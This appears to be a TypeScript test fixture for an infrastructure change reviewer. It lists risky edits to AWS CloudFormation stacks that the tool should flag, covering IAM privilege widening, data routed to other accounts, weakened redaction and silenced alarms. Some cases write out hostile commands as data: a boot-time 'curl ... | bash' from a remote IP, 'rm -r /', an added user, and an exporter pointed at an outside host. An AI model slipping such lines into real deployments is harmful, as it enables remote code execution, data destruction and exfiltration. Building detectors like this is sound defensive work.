import type { DangerousCase, Draft } from '../support';

type Finds = DangerousCase['finds'];
type Edit = (draft: Draft) => void;

const one = (name: string, finds: Finds, edit: Edit, given?: Edit): DangerousCase => ({
  name,
  finds,
  edit,
  ...(given ? { given } : {}),
});

const gateways = (draft: Draft) =>
  draft.properties('Collect', 'AWS::EC2::LaunchTemplate', 'Gateways').LaunchTemplateData;
const role = (draft: Draft) => draft.resource('Collect', 'AWS::IAM::Role', 'GatewayRole').Properties;
const documents = (draft: Draft) => draft.properties('Store', 'Custom::HarbourlineStoreDocuments').Documents;
/** A document of the store, before CDK resolved its references: text, or text in pieces. */
const inDocument = (draft: Draft, from: string | RegExp, to: string) => draft.replaceText(documents(draft), from, to);
const beside = (draft: Draft, id: string, Type: string, Properties: Record<string, any>) => {
  draft.stacks.Beside ??= { resources: {}, template: {}, terminationProtection: false };
  draft.add('Beside', id, Type, Properties);
};
const inBeside = (draft: Draft, id: string) => draft.stacks.Beside!.resources[id]!.Properties;
const list = 'relay 10.22.8.10/32 4318 trace NET-1 2027-06-30\n';
const allowList: Edit = (draft) => beside(draft, 'prod.txt', 'Harbourline::AllowList', { Text: list });
const files =
  (id: string, Type: string, Files: Record<string, string>): Edit =>
  (draft) =>
    beside(draft, id, Type, { Files });

/** Who may do more. */
const access: readonly DangerousCase[] = [
  one('a role may hand on roles', { 'iam-privileged': 'iam:PassRole' }, (draft) => {
    role(draft).Policies = [
      {
        PolicyName: 'p',
        PolicyDocument: {
          Statement: [{ Effect: 'Allow', Action: 'iam:PassRole', Resource: 'arn:aws:iam::333333333333:role/x' }],
        },
      },
    ];
  }),
  one('a managed policy of the account', { 'iam-managed-policy': 'ops-admin' }, (draft) => {
    role(draft).ManagedPolicyArns = ['arn:aws:iam::333333333333:policy/ops-admin'];
  }),
  one('administrator rights', { 'iam-managed-policy': 'AdministratorAccess' }, (draft) => {
    role(draft).ManagedPolicyArns = [
      { 'Fn::Join': ['', ['arn:', { Ref: 'AWS::Partition' }, ':iam::aws:policy/AdministratorAccess']] },
    ];
  }),
  one(
    'a role without its boundary',
    { 'iam-boundary': 'arn:aws:iam::333333333333:policy/b → nothing' },
    (draft) => {
      delete role(draft).PermissionsBoundary;
    },
    (draft) => {
      role(draft).PermissionsBoundary = 'arn:aws:iam::333333333333:policy/b';
    },
  ),
  one('a function acts as another role', { 'iam-other-role': 'acts as' }, (draft) => {
    draft.properties('Collect', 'AWS::Lambda::Function').Role = 'arn:aws:iam::333333333333:role/other';
  }),
  one('a user', { 'iam-long-lived': 'User is added' }, (draft) => draft.add('Collect', 'Me', 'AWS::IAM::User', {})),
  one('another master of the store', { 'store-master': 'MasterUserARN' }, (draft) => {
    draft.domain.AdvancedSecurityOptions.MasterUserOptions.MasterUserARN = 'arn:aws:iam::333333333333:role/me';
  }),
  one('readers see what was masked', { 'store-unmasked': 'client@address masked' }, (draft) => {
    inDocument(draft, '"*attributes.client@address",', '');
  }),
  one('the writer may do everything', { 'store-rights-sweeping': '* on the cluster' }, (draft) => {
    inDocument(draft, '"cluster_permissions":["indices:data/write/bulk"]', '"cluster_permissions":["*"]');
  }),
  one('the writer may count', { 'store-rights-widen': 'indices:data/read/count' }, (draft) => {
    inDocument(draft, '"indices:admin/mapping/put"', '"indices:admin/mapping/put","indices:data/read/count"');
  }),
  one('indices of more shards', { 'store-document': 'number_of_shards' }, (draft) => {
    inDocument(draft, '"number_of_shards":"3"', '"number_of_shards":"9"');
  }),
  one('a tag that a policy looks at', { 'tag-means-something': 'harbourline:agent' }, (draft) => {
    draft.domain.Tags.push({ Key: 'harbourline:agent', Value: 'prod' });
  }),
];

/** What may leave. */
const leaves: readonly DangerousCase[] = [
  one('PrivateLink to strangers', { 'endpoint-of-strangers': 'vpce-svc-1', 'iam-sweeping': '*: * on *' }, (draft) =>
    draft.add('Network', 'Saas', 'AWS::EC2::VPCEndpoint', { ServiceName: 'com.amazonaws.vpce.ap-east-1.vpce-svc-1' }),
  ),
  one('one more API', { 'endpoint-added': 'ap-east-1.sqs' }, (draft) =>
    draft.add('Network', 'Sqs', 'AWS::EC2::VPCEndpoint', {
      ServiceName: 'com.amazonaws.ap-east-1.sqs',
      PolicyDocument: { Statement: [] },
    }),
  ),
  one('logs leave for another account', { 'way-out': 'sends data on', 'foreign-account': '999999999999' }, (draft) =>
    draft.add('Collect', 'Out', 'AWS::Logs::SubscriptionFilter', {
      DestinationArn: 'arn:aws:logs:ap-east-1:999999999999:destination:out',
    }),
  ),
  one('a network of others is joined', { 'way-out': 'VPCPeeringConnection' }, (draft) =>
    draft.add('Network', 'Peering', 'AWS::EC2::VPCPeeringConnection', { PeerVpcId: 'vpc-1' }),
  ),
  one('a bucket is copied', { 'way-out-opened': 'ReplicationConfiguration' }, (draft) => {
    draft.properties('Collect', 'AWS::S3::Bucket').ReplicationConfiguration = { Role: 'r', Rules: [] };
  }),
  one('SSH between tiers', { 'network-opens-control': 'tcp 22' }, (draft) =>
    draft.add('Collect', 'Ssh', 'AWS::EC2::SecurityGroupIngress', {
      GroupId: 'sg-1',
      IpProtocol: 'tcp',
      FromPort: 22,
      ToPort: 22,
      CidrIp: '10.12.0.0/16',
    }),
  ),
  one(
    'a line of SSH',
    { 'flow-of-control': 'SSH' },
    (draft) => {
      inBeside(draft, 'prod.txt').Text += '10.32.4.0/28 10.22.1.20/32 22 payments NET-2 2027-03-31\n';
    },
    allowList,
  ),
  one(
    'a line of MySQL',
    { 'flow-added': 'MySQL' },
    (draft) => {
      inBeside(draft, 'prod.txt').Text += '10.32.4.0/28 10.22.1.20/32 3306 payments NET-2 2027-03-31\n';
    },
    allowList,
  ),
  one(
    'a line that lasts longer',
    { 'flow-terms': '2027-06-30 → ' },
    (draft) => {
      inBeside(draft, 'prod.txt').Text = list.replace('2027', '2029');
    },
    allowList,
  ),
  one(
    'another firewall of the far end',
    { 'far-end-otherwise': 'policy accept' },
    (draft) => {
      inBeside(draft, 'far end').Files['harbourline.nft'] = 'policy accept;\n';
    },
    files('far end', 'Harbourline::FarEnd', { 'harbourline.nft': 'policy drop;\n' }),
  ),
  one('an output with a secret', { 'output-reveals': 'resolve:secretsmanager' }, (draft) => {
    draft.stacks.Store!.template.Outputs.Key = { Value: '{{resolve:secretsmanager:x}}' };
  }),
  one('a collector sends to one place more', { 'collector-sends': 'one place more' }, (draft) => {
    draft.replaceText(
      gateways(draft),
      '\n    exporters:\n',
      '\n    exporters:\n      otlp_http/us:\n        endpoint: https://198.51.100.7\n',
    );
  }),
];

/** What runs on machines. */
const root: readonly DangerousCase[] = [
  one('a line at boot', { 'runs-as-root': '+ curl -s http://198.51.100.7/x | bash' }, (draft) => {
    draft.replaceText(
      gateways(draft),
      'systemctl daemon-reload\n',
      'systemctl daemon-reload\n     curl -s http://198.51.100.7/x | bash\n',
    );
  }),
  one('a variable of a machine', { 'machine-settings': 'GOMEMLIMIT' }, (draft) => {
    draft.replaceText(gateways(draft), /GOMEMLIMIT=\d+/, 'GOMEMLIMIT=1');
  }),
  one(
    'a script',
    { 'runs-as-root': '+ rm -r /' },
    (draft) => {
      inBeside(draft, 'Scripts').Files['drain.sh'] = '#!/bin/bash\nrm -r /\n';
    },
    files('Scripts', 'Harbourline::Program', { 'drain.sh': '#!/bin/bash\n' }),
  ),
  one('a document of Systems Manager', { 'runs-as-root': 'useradd' }, (draft) => {
    draft.properties('Collect', 'AWS::SSM::Document').Content.mainSteps[0].inputs.runCommand.push('useradd -m support');
  }),
  one('agents on other machines', { 'runs-elsewhere': 'Targets' }, (draft) => {
    draft.properties('Collect', 'AWS::SSM::Association').Targets[0].Values = ['*'];
  }),
  one('agents on all machines at once', { 'roll-out-faster': 'MaxConcurrency: 10% → 100%' }, (draft) => {
    draft.properties('Collect', 'AWS::SSM::Association').MaxConcurrency = '100%';
  }),
  one('another image', { 'machine-image': 'ami-1' }, (draft) => {
    gateways(draft).ImageId = 'ami-1';
  }),
  one('credentials three hops away', { 'machine-guard': 'HttpPutResponseHopLimit: 1 → 3' }, (draft) => {
    gateways(draft).MetadataOptions.HttpPutResponseHopLimit = 3;
  }),
  one(
    'other code',
    { 'program-changes': '+ exports.b' },
    (draft) => {
      inBeside(draft, 'Code').Files['main.js'] = 'exports.b = 1;\n';
    },
    files('Code', 'Harbourline::Program', { 'main.js': 'exports.a = 1;\n' }),
  ),
  one(
    'code that asks nobody',
    { 'program-changes': 'main.js', 'program-reckless': 'rejectUnauthorized' },
    (draft) => {
      inBeside(draft, 'Code').Files['main.js'] = 'connect({ rejectUnauthorized: false });\n';
    },
    files('Code', 'Harbourline::Program', { 'main.js': 'connect({});\n' }),
  ),
  one('a function is told something else', { 'function-settings': 'Timeout' }, (draft) => {
    draft.properties('Collect', 'AWS::Lambda::Function').Timeout = 3;
  }),
];

/** What protects data. */
const guarded: readonly DangerousCase[] = [
  one('a key is let through', { 'redaction-weakens': 'now let through: customer' }, (draft) => {
    draft.replaceText(gateways(draft), '|payment)', '|payment|customer)');
  }),
  one(
    'a list of kinds is shorter',
    { 'masking-data': '2 removed' },
    (draft) => {
      inBeside(draft, 'data').Files['sensitive.json'] = '[\n"b"\n]\n';
    },
    files('data', 'Harbourline::Sources', { 'sensitive.json': '[\n"a",\n"c",\n"b"\n]\n' }),
  ),
  one(
    'a list of kinds is longer',
    { 'masking-data-more': '1 lines added' },
    (draft) => {
      inBeside(draft, 'data').Files['sensitive.json'] = 'a\nb\n';
    },
    files('data', 'Harbourline::Sources', { 'sensitive.json': 'a\n' }),
  ),
  one('an authority is named', { 'collector-transport-otherwise': 'reload_interval' }, (draft) => {
    draft.replaceText(gateways(draft), 'reload_interval: 5m', 'reload_interval: 6m');
  }),
  one('fewer slow traces', { 'sampling-changes': '2000 → 10000' }, (draft) => {
    draft.replaceText(
      draft.properties('Collect', 'AWS::EC2::LaunchTemplate', 'Samplers'),
      'threshold_ms: 2000',
      'threshold_ms: 10000',
    );
  }),
  one('a shorter queue', { 'collector-otherwise': 'queue_size' }, (draft) => {
    draft.replaceText(gateways(draft), /queue_size: \d+/, 'queue_size: 1');
  }),
  one('remainders stay for longer', { 'kept-longer': 'ExpirationInDays' }, (draft) => {
    draft.properties('Collect', 'AWS::S3::Bucket').LifecycleConfiguration.Rules[0].ExpirationInDays = 400;
  }),
  one('no renewal', { 'schedule-off': 'DISABLED' }, (draft) => {
    draft.properties('Collect', 'AWS::Events::Rule', 'CertificatesRenewal').State = 'DISABLED';
  }),
  one('a renewal once a year', { 'schedule-otherwise': 'rate(365 days)' }, (draft) => {
    draft.properties('Collect', 'AWS::Events::Rule', 'CertificatesRenewal').ScheduleExpression = 'rate(365 days)';
  }),
  one('instances of ninety days', { 'lives-longer': '7776000' }, (draft) => {
    draft.properties('Collect', 'AWS::AutoScaling::AutoScalingGroup').MaxInstanceLifetime = 7_776_000;
  }),
  one('no hand-over', { 'hand-over-changes': 'LifecycleHookSpecificationList' }, (draft) => {
    delete draft.properties('Collect', 'AWS::AutoScaling::AutoScalingGroup').LifecycleHookSpecificationList;
  }),
  one('certificates for other names', { 'certificate-changes': 'evil' }, (draft) => {
    draft.properties('Collect', 'Custom::HarbourlineTierCertificates').Names.gateway = ['evil.example'];
  }),
  one('old versions are not deleted', { 'data-life-cycle': 'Disabled' }, (draft) => {
    draft.properties('Collect', 'AWS::S3::Bucket').LifecycleConfiguration.Rules[0].Status = 'Disabled';
  }),
  one('a log under another key', { 'key-changes': 'KmsKeyId' }, (draft) => {
    draft.properties('Store', 'AWS::Logs::LogGroup').KmsKeyId = 'arn:aws:kms:ap-east-1:333333333333:key/1';
  }),
];

/** What is noticed, and what works. */
const noticed: readonly DangerousCase[] = [
  one('nobody is paged', { 'nobody-paged': 'notifies nobody' }, (draft) => {
    delete draft.properties('Observe', 'AWS::CloudWatch::CompositeAlarm', 'AlarmsTracing').AlarmActions;
  }),
  one('somebody else is paged', { 'pager-changes': 'no longer tells email' }, (draft) => {
    draft.properties('Observe', 'AWS::SNS::Subscription', 'Topicplatform').Endpoint = 'somebody@mail.example';
  }),
  one('a gate in an expression', { 'alarm-laxer': '5000' }, (draft) => {
    const [metric] = draft.properties('Observe', 'AWS::CloudWatch::Alarm', 'AlarmsTracecontinuity').Metrics;
    metric.Expression = metric.Expression.replace('50', '5000');
  }),
  one('no flow log, no metric filter', { 'watch-removed': 'MetricFilter' }, (draft) => {
    draft.remove('Link', 'AWS::Logs::MetricFilter');
  }),
  one('an empty dashboard', { 'dashboard-shows-less': 'metrics are not shown' }, (draft) => {
    draft.properties('Observe', 'AWS::CloudWatch::Dashboard').DashboardBody = '{"widgets":[]}';
  }),
  one(
    'a flow log of ten minutes',
    {
      'watch-otherwise': 'MaxAggregationInterval: 60 → 600',
      'order-refused': 'FlowLogAlreadyExists',
    },
    (draft) => {
      draft.properties('Network', 'AWS::EC2::FlowLog').MaxAggregationInterval = 600;
    },
  ),
  one('logs go elsewhere', { 'logging-otherwise': 'CloudWatchLogsLogGroupArn' }, (draft) => {
    draft.domain.LogPublishingOptions.AUDIT_LOGS.CloudWatchLogsLogGroupArn =
      'arn:aws:logs:ap-east-1:333333333333:log-group:x';
  }),
  one('an export goes', { 'export-changes': 'removed' }, (draft) => {
    const { Outputs } = draft.stacks.Network!.template;
    delete Outputs[Object.keys(Outputs)[0]!];
  }),
  one('the store in another region', { 'stack-elsewhere': 'us-east-1' }, (draft) => {
    draft.stacks.Store!.place = '333333333333/us-east-1';
  }),
  one('a new stack', { 'stack-comes-or-goes': 'added' }, (draft) => {
    draft.stacks.More = { resources: {}, template: {}, terminationProtection: false };
  }),
  one('a target is healthy at once', { 'health-checks': 'HealthyThresholdCount' }, (draft) => {
    draft.properties('Collect', 'AWS::ElasticLoadBalancingV2::TargetGroup').HealthyThresholdCount = 9;
  }),
  one('a route goes', { 'network-way-gone': 'no longer leads' }, (draft) => {
    draft.remove('Link', 'AWS::EC2::TransitGatewayRoute');
  }),
  one(
    'nobody knows what it is',
    { unjudged: 'AWS::Nothing::AtAll is added', 'order-unknown': 'AWS::Nothing::AtAll' },
    (draft) => draft.add('Collect', 'Odd', 'AWS::Nothing::AtAll', {}),
  ),
];

const judge =
  (id: string, Text: string): Edit =>
  (draft) =>
    beside(draft, id, 'Harbourline::Judge', { Text });

/** What judges. */
const judges: readonly DangerousCase[] = [
  one(
    'a rule changes',
    { 'judge-changes': 'changed' },
    (draft) => {
      inBeside(draft, 'tools/review/rules/iam.ts').Text = 'b';
    },
    judge('tools/review/rules/iam.ts', 'a'),
  ),
  one(
    'a workflow may write',
    { 'judge-changes': 'changed', 'workflow-may-more': 'contents: write' },
    (draft) => {
      inBeside(draft, '.github/workflows/x.yml').Text = 'permissions:\n  contents: write\n';
    },
    judge('.github/workflows/x.yml', 'permissions:\n  contents: read\n'),
  ),
  one(
    'a finding is accepted',
    { 'accepted-changes': 'id: x' },
    (draft) => {
      inBeside(draft, 'review/accepted.yaml').Text = '- id: x\n';
    },
    judge('review/accepted.yaml', ''),
  ),
  one(
    'rules of the change',
    { 'rules-of-the-change': 'own rules' },
    (draft) => {
      inBeside(draft, 'rules').Of = 'the base';
    },
    (draft) => beside(draft, 'rules', 'Harbourline::Rules', { Of: 'nobody' }),
  ),
  one(
    'another package',
    { 'packages-change': 'left-pad' },
    (draft) => {
      inBeside(draft, 'lock').Packages['left-pad'] = '1.0.0 of npm';
    },
    (draft) => beside(draft, 'lock', 'Harbourline::Packages', { Packages: {} }),
  ),
];

/** One of each kind that has no case elsewhere. */
export const kinds: readonly DangerousCase[] = [...access, ...leaves, ...root, ...guarded, ...noticed, ...judges];
